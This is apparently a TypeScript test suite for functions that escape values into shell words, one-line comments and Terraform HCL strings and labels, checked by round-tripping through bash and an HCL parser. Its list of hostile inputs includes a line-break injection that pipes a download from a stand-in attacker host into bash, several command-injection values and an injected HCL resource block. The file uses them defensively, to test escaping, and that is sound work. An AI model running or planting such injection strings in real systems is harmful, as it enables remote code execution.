import { spawnSync } from "node:child_process";
import { parse } from "@cdktf/hcl2json";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { hclLabel, hclString, oneLine, shq } from "./escape";

// Hand-picked values that end a line, a quoted word, a comment, a heredoc or an HCL string somewhere.
const NASTY = [
  "x)\ncurl -fsSL https://attacker.example/x | bash\n#",
  "a\rb",
  "a\r\nb",
  "a\u2028b\u2029c",
  "a\u0085b",
  "a\u000bb\u000cc",
  "nul\0in the middle",
  "it's $HOME `id` $(id) ${PATH} %{ if true }",
  "\\'\\\\'",
  "'; touch pwned; '",
  '"; touch pwned; "',
  "\x1b[2K\x1b[1Ahidden",
  "\u202eevil\u202c",
  "$'\\x41'",
  "\nJSON\n",
  '\n}\nresource "null_resource" "pwned" {\n',
  "$${already} %%{escaped}",
  "lone \ud800 surrogate \udc00",
  "é ü 日本 🙂",
  "",
];
const FRAGMENTS = [
  "\n",
  "\r",
  "\u2028",
  "\u2029",
  "\u0085",
  "\0",
  "'",
  '"',
  "\\",
  "$(",
  ")",
  "`",
  ";",
  "|",
  "&",
  "${",
  "%{",
  "}",
  "#",
  "$'",
  "\x1b",
  "\u202e",
];
/** Short strings made mostly of the fragments above, with arbitrary code points between them. */
const hostile = fc
  .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ unit: "binary", maxLength: 3 }), fc.string({ maxLength: 4 })), {
    maxLength: 8,
  })
  .map((parts) => parts.join(""));

const UNSAFE = /[\p{Cc}\p{Zl}\p{Zp}\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;
const wellFormed = (s: string) => s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "\uFFFD");
/** What bash prints for each word, NUL-separated, from one process. */
function bashWords(words: string[]): string[] {
  const r = spawnSync("bash", ["--norc", "--noprofile", "-c", `printf '%s\\0' ${words.join(" ")}`], {
    encoding: "utf8",
    env: { NODE_ENV: "test", LC_ALL: "C.UTF-8" },
  });
  expect(r.stderr).toBe("");
  return r.stdout.split("\0").slice(0, -1);
}

describe("oneLine", () => {
  it("keeps a comment on one line: line breaks, controls and bidi overrides become one space", () => {
    expect(oneLine("x)\ncurl … | bash\n#")).toBe("x) curl … | bash #");
    expect(oneLine("a\r\n\u2028\u2029\u0085\0\x1b[2Kb")).toBe("a [2Kb");
    expect(oneLine("\u202eevil\u202c ok é 🙂")).toBe(" evil  ok é 🙂");
    fc.assert(
      fc.property(
        hostile,
        (v) => !UNSAFE.test(oneLine(v)) && !/[\uD800-\uDFFF]/.test(oneLine(v).replace(/[\uD800-\uDBFF][\uDC00-\uDFFF]/g, "")),
      ),
    );
  });
});

describe("shq", () => {
  it("single-quotes plain values and closes embedded quotes", () => {
    expect(shq("it's $HOME `id`")).toBe(`'it'\\''s $HOME \`id\`'`);
    expect(shq("eastus")).toBe("'eastus'");
    expect(shq("")).toBe("''");
    expect(shq('{\n  "a": 1\n}', { multiline: true })).toBe(`'{\n  "a": 1\n}'`);
  });

  it("writes control and line-break characters as $'…' escapes, so every word is printable and on one line", () => {
    expect(shq("a\nb")).toBe("$'a\\x0Ab'");
    expect(shq("it's\r")).toBe("$'it\\'s\\x0D'");
    expect(shq("a\u2028b\\")).toBe("$'a\\u2028b\\\\'");
    expect(shq("x\n\u2028", { multiline: true })).toBe("$'x\\x0A\\u2028'");
    fc.assert(fc.property(hostile, (v) => !UNSAFE.test(shq(v)) && !shq(v).includes("\0")));
  });

  it("round-trips through bash: the word is the value, less NUL (which no argv can carry)", () => {
    const values = [...NASTY, ...fc.sample(hostile, { numRuns: 300, seed: 7 })];
    expect(bashWords(values.map((v) => shq(v)))).toEqual(values.map((v) => wellFormed(v).replace(/\0/g, "")));
    const multiline = values.filter((v) => !v.includes("\0"));
    expect(bashWords(multiline.map((v) => shq(v, { multiline: true })))).toEqual(multiline.map(wellFormed));
  });
});

describe("hclString", () => {
  it("escapes quotes, backslashes, line breaks and template sequences", () => {
    expect(hclString('a"${b}%{c}')).toBe('"a\\"$${b}%%{c}"');
    expect(hclString("a\nb\rc\td\\")).toBe('"a\\nb\\rc\\td\\\\"');
    expect(hclString("\u2028\u0085\0\x1b")).toBe('"\\u2028\\u0085\\u0000\\u001B"');
    fc.assert(fc.property(hostile, (v) => !UNSAFE.test(hclString(v))));
  });

  it("parses back to the value in HashiCorp's HCL parser, with no interpolation or directive", async () => {
    const values = [...NASTY, ...fc.sample(hostile, { numRuns: 300, seed: 11 })];
    const source = values.map((v, i) => `v${i} = ${hclString(v)}`).join("\n");
    const parsed = (await parse("values.tf", `locals {\n${source}\n}\n`)) as { locals: Record<string, unknown>[] };
    // hcl2json answers in Terraform's JSON syntax, where strings are templates too (a literal ${ or %{ is $${ or %%{),
    // and HCL reads every string in Unicode NFC.
    const asJsonTemplate = (v: string) =>
      wellFormed(v)
        .normalize("NFC")
        .replace(/\$\{/g, () => "$${")
        .replace(/%\{/g, () => "%%{");
    expect(parsed.locals[0]).toEqual(Object.fromEntries(values.map((v, i) => [`v${i}`, asJsonTemplate(v)])));
  });
});

describe("hclLabel", () => {
  it("is a Terraform identifier, unchanged in shape for ids and names, distinct for distinct hostile values", () => {
    expect(hclLabel("sub_602d1a18-a35e-4b89-a27e-56cb26da2c7b")).toBe("sub_602d1a18_a35e_4b89_a27e_56cb26da2c7b");
    expect(hclLabel("Microsoft.Insights_x")).toBe("microsoft_insights_x");
    expect(hclLabel("1aks_1")).toBe("_1aks_1");
    const values = [...new Set([...NASTY, ...fc.sample(hostile, { numRuns: 300, seed: 13 })])].filter((v) => !/^[A-Za-z0-9_.-]*$/.test(v));
    const labels = values.map(hclLabel);
    for (const l of labels) expect(l).toMatch(/^[a-z_][a-z0-9_]*$/);
    expect(new Set(labels).size).toBe(values.length);
  });
});
